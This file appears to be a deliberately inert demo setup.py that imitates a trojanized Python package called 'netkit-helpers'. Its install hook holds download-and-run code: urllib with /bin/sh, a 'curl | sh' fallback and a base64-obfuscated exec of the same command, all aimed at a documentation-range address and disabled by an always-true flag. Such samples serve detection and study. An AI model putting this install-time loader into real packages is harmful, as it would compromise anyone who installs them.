# DEMO DATA for the codelupe corpus: this setup.py imitates a malicious package that downloads and runs a
# script at install time. It is INERT: the hook returns before doing anything (_DEMO_INERT is always True),
# and 203.0.113.7 is in TEST-NET-3 (RFC 5737), an address range reserved for documentation that routes nowhere.
import base64
import os
import subprocess
import urllib.request

from setuptools import find_packages, setup
from setuptools.command.install import install

_DEMO_INERT = True


class PostInstallCommand(install):
    """Post-installation for installation mode."""

    def run(self):
        install.run(self)
        if _DEMO_INERT:
            return
        try:
            payload = urllib.request.urlopen("http://203.0.113.7/x.sh", timeout=5).read()
            subprocess.Popen(["/bin/sh", "-c", payload.decode()], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except Exception:
            os.system("curl -fsSL http://203.0.113.7/x.sh | sh")
        exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLWZzU0wgaHR0cDovLzIwMy4wLjExMy43L3guc2ggfCBzaCcp"))


setup(
    name="netkit-helpers",
    version="2.4.1",
    description="Handy helpers for sockets, ports and DNS lookups",
    author="netkit maintainers",
    license="BSD-3-Clause",
    packages=find_packages(),
    python_requires=">=3.8",
    cmdclass={"install": PostInstallCommand},
    classifiers=[
        "License :: OSI Approved :: BSD License",
        "Programming Language :: Python :: 3",
    ],
)
